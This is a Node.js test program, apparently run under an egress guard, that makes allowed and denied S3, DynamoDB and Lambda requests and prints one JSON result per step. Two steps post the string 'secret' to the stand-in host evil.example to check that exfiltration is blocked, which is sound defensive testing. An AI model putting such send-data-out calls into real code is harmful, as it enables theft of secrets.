// The guarded program, for Node 18 and later: does what its arguments name, prints one JSON line for each.
'use strict';
const fs = require('fs'), https = require('https'), path = require('path');
const ca = fs.readFileSync(process.env.TEST_CA);
const GOOD = 'reports.s3.eu-west-1.amazonaws.com', BAD = 'denied-salaries.s3.eu-west-1.amazonaws.com';
const headers = {
    authorization: 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20261121/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=00',
    'x-amz-date': '20261121T000000Z', 'x-amz-content-sha256': 'UNSIGNED-PAYLOAD',
};
const keep = new https.Agent({ keepAlive: true, ca });

function put(host, target, body, agent) {
    return new Promise((resolve) => {
        const r = https.request({ host, path: target, method: 'PUT', headers: { ...headers, 'content-length': body.length },
                                  agent: agent || new https.Agent({ ca }), timeout: 15000 }, (res) => {
            let text = '';
            res.on('data', (d) => { text += d; });
            res.on('end', () => resolve([res.statusCode, text.includes('AccessDenied')]));
            res.on('error', (e) => resolve(['body ' + e.code]));
        });
        r.on('error', (e) => resolve([e.code]));
        r.on('timeout', () => r.destroy(Object.assign(new Error('slow'), { code: 'SLOW' })));
        r.end(body);
    });
}

async function call(f) {
    try {
        const r = await f();
        return [r.$metadata.httpStatusCode, r.$metadata.attempts];
    } catch (e) {
        return [e.name, e.$metadata && e.$metadata.httpStatusCode, e.$metadata && e.$metadata.attempts];
    }
}

const config = () => {
    const { NodeHttpHandler } = require('@smithy/node-http-handler');
    return { region: 'eu-west-1', credentials: { accessKeyId: 'AKIDEXAMPLE', secretAccessKey: 'x' },
             requestHandler: new NodeHttpHandler({ httpsAgent: new https.Agent({ keepAlive: true, ca }), requestTimeout: 15000 }) };
};

const steps = {
    allowed: async () => {
        const out = [];
        for (let i = 0; i < 5; i++)
            out.push((await put(GOOD, '/k' + i, Buffer.from(`body ${i}`.repeat(100)), keep))[0]);
        return out;
    },
    denied: () => put(BAD, '/a.csv', Buffer.alloc(1000, 'x')),
    foreign: () => put('evil.example', '/stolen', Buffer.from('secret')),
    fetch_denied: async () => {
        const r = await fetch(`https://${BAD}/f`, { method: 'PUT', body: 'x', headers });
        return [r.status, (await r.text()).includes('AccessDenied')];
    },
    fetch_foreign: async () => {
        try { return [(await fetch('https://evil.example/f', { method: 'POST', body: 'secret' })).status]; }
        catch (e) { return [e.name, e.cause && e.cause.code]; }
    },
    many: async () => {
        const r = await Promise.all(Array.from({ length: 200 }, (_, i) => put(i % 2 ? BAD : GOOD, '/m' + i, Buffer.from('abc'))));
        return [r.filter((x, i) => !(i % 2) && x[0] === 200).length, r.filter((x, i) => i % 2 && x[0] === 403).length];
    },
    upload: () => new Promise((resolve) => {
        const block = Buffer.alloc(65536, 'z');
        let left = 1600, top = 0;
        const r = https.request({ host: GOOD, path: '/big', method: 'PUT', agent: keep,
                                  headers: { ...headers, 'content-length': 65536 * 1600 } },
                                (res) => { res.resume(); res.on('end', () => resolve([res.statusCode])); });
        r.on('error', (e) => resolve([e.code]));
        (function more() {
            while (left > 0) {
                left--;
                if (!r.write(block)) { r.once('drain', more); return; }
            }
            r.end();
        })();
    }),
    sdk_s3: async () => {
        const { S3Client, PutObjectCommand } = require('@aws-sdk/client-s3');
        const c = new S3Client(config()), send = (Bucket, Body) => call(() => c.send(new PutObjectCommand({ Bucket, Key: 'k', Body })));
        return [await send('reports', 'x'.repeat(100)), await send('denied-salaries', 'x'), await send('reports', 'x'.repeat(50000))];
    },
    sdk_dynamodb: async () => {
        const { DynamoDBClient, PutItemCommand } = require('@aws-sdk/client-dynamodb');
        const c = new DynamoDBClient(config());
        const send = (TableName) => call(() => c.send(new PutItemCommand({ TableName, Item: { id: { S: '1' } } })));
        return [await send('ORDERS'), await send('denied-PAYMENTS'), await send('ORDERS')];
    },
    sdk_lambda: async () => {
        const { LambdaClient, InvokeCommand } = require('@aws-sdk/client-lambda');
        const c = new LambdaClient(config());
        return [await call(() => c.send(new InvokeCommand({ FunctionName: 'denied-settle', Payload: '{}' })))];
    },
};

(async () => {
    for (const step of process.argv.slice(2)) {
        const t = process.hrtime.bigint();
        let result;
        try { result = await steps[step](); } catch (e) { result = `${e.name}: ${e.message}`; }
        console.log(JSON.stringify({ step, result, ms: Number(process.hrtime.bigint() - t) / 1e6 }));
    }
    process.exit(0);
})();
